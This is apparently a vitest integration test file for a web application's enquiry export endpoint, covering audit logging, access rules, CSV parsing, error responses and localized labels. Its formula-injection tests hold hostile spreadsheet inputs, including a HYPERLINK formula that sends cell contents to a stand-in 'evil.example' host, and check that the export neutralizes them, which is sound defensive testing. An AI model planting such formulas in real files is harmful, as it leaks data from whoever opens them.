import { mkdtempSync, rmSync } from 'node:fs';
import { get } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tidyText } from '#engine';
import type { AuditListView } from '../../src/api/people.ts';
import type { FileAnswer } from '../../src/api/studio.ts';
import { serverSettings } from '../../src/server/platform/config/settings.ts';
import { openExistingSqliteStore } from '../../src/server/store/sqlite/sqlite-store.ts';
import { createEntry } from '../../src/server/store/testing/new-entry.ts';
import { sampleEnquiry } from '../hostile/support/enquiry.ts';
import { postEnquiry } from '../support/send.ts';
import { type RunningServer, startServer } from '../support/server.ts';
import { studioPassword } from '../support/studio-password.ts';
import {
  createStudioSession,
  inviteAndJoin,
  type StudioSession,
  signInTo,
} from '../support/studio-session.ts';

const data = mkdtempSync(join(tmpdir(), 'slipway-enquiry-export-'));
const env = { SLIPWAY_DATA: data, SLIPWAY_STUDIO_PASSWORD: studioPassword, SLIPWAY_RATE_LIMIT: 'off' };
/** Twice the size of a batch. */
const many = serverSettings.desk.exportBatch * 2 + 10;
const foreign = 'international.trevarrow.example';

let server: RunningServer;
let owner: StudioSession;
beforeAll(async () => {
  server = await startServer({ env });
  owner = createStudioSession(server.url, { cookie: await signInTo(server.url) });
  const store = openExistingSqliteStore({ dataFolder: data, settings: serverSettings });
  for (let index = 0; index < many; index += 1)
    await store?.accept(
      createEntry({
        domain: foreign,
        enquiryType: 6,
        values: { message: `Number${index}`, gone_field: 'kept' },
      }),
    );
  await store?.close();
});
afterAll(async () => {
  await server.stop();
  rmSync(data, { recursive: true });
});

const exported = async (query: string, person = owner) =>
  (await person.ask('GET', `enquiries/export?${query}`)).text();

/** RFC 4180. */
function rowsOf(csv: string, separator = ','): readonly Readonly<Record<string, string>>[] {
  const cell = new RegExp(`("(?:[^"]|"")*"|[^${separator}\\r\\n]*)(${separator}|\\r\\n)`, 'g');
  const cells = [...csv.replace(/^\ufeff/, '').matchAll(cell)];
  const lines: string[][] = [[]];
  for (const [, cell = '', end] of cells) {
    lines.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end === '\r\n') lines.push([]);
  }
  const [head = [], ...rest] = lines.slice(0, -1);
  return rest.map((line) => Object.fromEntries(line.map((cell, index) => [head[index], cell])));
}

describe('the export of enquiries', () => {
  it('is asked about before it is fetched, refused as it is, and noted once', async () => {
    const findRecorded = async (name: string) => {
      const { entries } = await owner.get<AuditListView>('audit?action=enquiries-exported');
      return entries.filter(({ who }) => who.name === name).length;
    };
    const before = await findRecorded('owner');
    const { address } = await owner.get<FileAnswer>('enquiries/export?format=csv&ask=1');
    expect(await findRecorded('owner')).toBe(before + 1);
    const path = address.replace('/studio/api/', '');
    expect(rowsOf(await (await owner.ask('GET', path)).text())).toHaveLength(many);
    expect(await findRecorded('owner')).toBe(before + 1);
    // A prepared download is recorded once. A repeat, or one with other parameters, is recorded as another
    // export.
    expect((await owner.ask('GET', path)).status).toBe(200);
    expect(await findRecorded('owner')).toBe(before + 2);
    const other = await owner.get<FileAnswer>('enquiries/export?format=csv&ask=1');
    await (await owner.ask('GET', other.address.replace('/studio/api/', '').replace('csv', 'json'))).text();
    expect(await findRecorded('owner')).toBe(before + 4);

    expect((await owner.ask('GET', 'enquiries/export?format=pdf&ask=1')).status).toBe(400);
    const nobody = createStudioSession(server.url, {});
    expect((await nobody.ask('GET', 'enquiries/export?format=csv&ask=1')).status).toBe(401);
    const reader = await inviteAndJoin(server.url, owner, { name: 'Wim', role: 'viewer', enquiries: 'read' });
    const refused = await reader.ask('GET', 'enquiries/export?format=csv&ask=1');
    expect([refused.status, await refused.json()]).toMatchObject([403, { error: 'not-for-enquiries' }]);
  });

  it('has every enquiry that the filter finds, once, the first one first', async () => {
    const numbers = Array.from({ length: many }, (_, index) => `Number${index}`);
    const rows = rowsOf(await exported(`format=csv&site=${foreign}`));
    expect(rows.map(({ message }) => message)).toEqual(numbers);
    expect(rows[0]).toMatchObject({
      type: 'Buying a yacht',
      site: foreign,
      state: 'new',
      more: '{"gone_field":"kept"}',
    });
    const all = JSON.parse(await exported(`format=json&site=${foreign}`));
    expect(all.map(({ values }: { values: { message: string } }) => values.message)).toEqual(numbers);
    expect(all[0]).toMatchObject({ type: { id: 6, name: 'Buying a yacht' }, site: foreign, state: 'new' });
    expect(rowsOf(await exported('format=csv&search=number17&type=6')).map(({ message }) => message)).toEqual(
      ['Number17', ...numbers.filter((text) => /^Number17\d/.test(text))],
    );
  });

  it('is an empty table, or an empty list, where nothing is found', async () => {
    expect(rowsOf(await exported('format=csv&type=77'))).toEqual([]);
    expect(JSON.parse(await exported('format=json&type=77'))).toEqual([]);
  });

  it.each([
    ['=HYPERLINK("https://evil.example?"&A1)'],
    ['+1+1'],
    ['-2+3'],
    ['@SUM(A1)'],
    [' =1+1'],
    ['\u200e=1+1'],
    ['\uff1d1+1'],
  ])('holds no formula: %s', async (name) => {
    await postEnquiry(server.url, { ...sampleEnquiry, name, message: `Of ${name}, "quoted",\nin two lines` });
    const row = rowsOf(await exported('format=csv&site=www.trevarrow.example')).at(-1);
    for (const cell of [row?.name, row?.visitor_name])
      expect(cell).toBe(`'${tidyText(name)}`.replace("''", "'"));
    expect(row?.message).toContain('"quoted",\nin two lines');
    const [last] = JSON.parse(await exported('format=json&site=www.trevarrow.example')).toReversed();
    expect(last.values.name).toBe(tidyText(name));
  });

  it.each([
    ['A;=HYPERLINK(1)', "A;'=HYPERLINK(1)"],
    ['A;"=1+1', `A;'"=1+1`],
    ['A; +1', "A;' +1"],
    ['List\n- one\n\n=1', "List\n'- one\n\n'=1"],
    ['A\t@SUM(A1)', "A\t'@SUM(A1)"],
    ['Anna-Lena; a@b.c', 'Anna-Lena; a@b.c'],
  ])('holds no formula where cells are separated by what the text has: %j', async (message, inert) => {
    await postEnquiry(server.url, { ...sampleEnquiry, message });
    const csv = await exported('format=csv&site=www.trevarrow.example');
    expect(rowsOf(csv).at(-1)?.message).toBe(inert);
    expect(csv).toContain(`"${inert.replaceAll('"', '""')}"`);
    const [last] = JSON.parse(await exported('format=json&site=www.trevarrow.example')).toReversed();
    expect(last.values.message).toBe(message);
  });

  it('is noted, without what was searched for', async () => {
    await exported('format=csv&type=6&search=Winter');
    const [entry] = (await owner.get<AuditListView>('audit')).entries;
    expect(entry).toMatchObject({
      action: 'enquiries-exported',
      about: 'CSV',
      details: { type: '6', search: true },
    });
    expect(JSON.stringify(entry)).not.toContain('Winter');
  });

  it('has nothing outside of what somebody may see, whatever link they were given', async () => {
    const reach = { role: 'viewer', enquiries: 'handle' } as const;
    const limited = await inviteAndJoin(server.url, owner, { name: 'One type', ...reach, types: ['sales'] });
    const other = await inviteAndJoin(server.url, owner, { name: 'One site', ...reach, sites: ['305'] });
    expect(rowsOf(await exported('format=csv', limited))).toHaveLength(many);
    expect(rowsOf(await exported('format=csv&type=3', limited))).toEqual([]);
    expect(JSON.parse(await exported(`format=json&site=${foreign}`, other))).toEqual([]);
    const reader = await inviteAndJoin(server.url, owner, {
      name: 'Reads',
      role: 'viewer',
      enquiries: 'read',
    });
    expect((await reader.ask('GET', 'enquiries/export?format=csv')).status).toBe(403);
  });

  it.each([
    '',
    'format=xls',
    'format=__proto__',
    'format=csv&format=json',
    `format=csv&search=${'x'.repeat(10_000)}`,
  ])('says what is wrong: %s', async (query) => {
    const answer = await owner.ask('GET', `enquiries/export?${query}`);
    expect({ status: answer.status, body: await answer.json() }).toMatchObject({
      status: 400,
      body: { error: 'bad-request' },
    });
  });

  it('ends where it is broken off, and the server goes on', async () => {
    const broken = Array.from({ length: 20 }, () => {
      const { promise, resolve } = Promise.withResolvers<void>();
      const url = new URL('/studio/api/enquiries/export?format=json', server.url);
      const request = get(url, { headers: { cookie: owner.cookie }, agent: false }, (response) => {
        response.once('data', () => request.destroy());
        response.once('error', () => undefined).once('close', resolve);
      });
      request.once('error', () => resolve());
      return promise;
    });
    await Promise.all(broken);
    expect(JSON.parse(await exported(`format=json&site=${foreign}`))).toHaveLength(many);
    expect(server.logged()).not.toMatch(/"level":"(?:error|warn)"/);
  });

  it('writes labels in place of names and keys, if it is asked to, in the language of the reader', async () => {
    const store = openExistingSqliteStore({ dataFolder: data, settings: serverSettings });
    const values = {
      enquiry_type: 8,
      tax_paid_status: 'tax-paid',
      accept_term: true,
      condition_of_boat: '1',
    };
    await store?.accept(createEntry({ domain: foreign, enquiryType: 8, values }));
    await store?.close();
    const [row] = rowsOf(await exported('format=csv-labels&type=8'));
    expect(row).toMatchObject({
      Type: 'Boat valuation',
      State: 'New',
      'Tax status': 'Tax paid',
      'I have read and accept these terms': 'Yes',
      'Condition of the boat': '1, poor',
    });
    expect(row?.['Received (UTC)']).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d$/);
    const german = createStudioSession(server.url, { cookie: owner.cookie, 'accept-language': 'de' });
    // German spreadsheets expect semicolons.
    const [translated] = rowsOf(await exported('format=csv-labels&type=8', german), ';');
    expect(translated).toMatchObject({ Status: 'Neu' });
    expect(new Set(Object.keys(translated ?? {})).size).toBe(Object.keys(row ?? {}).length);
  });
});
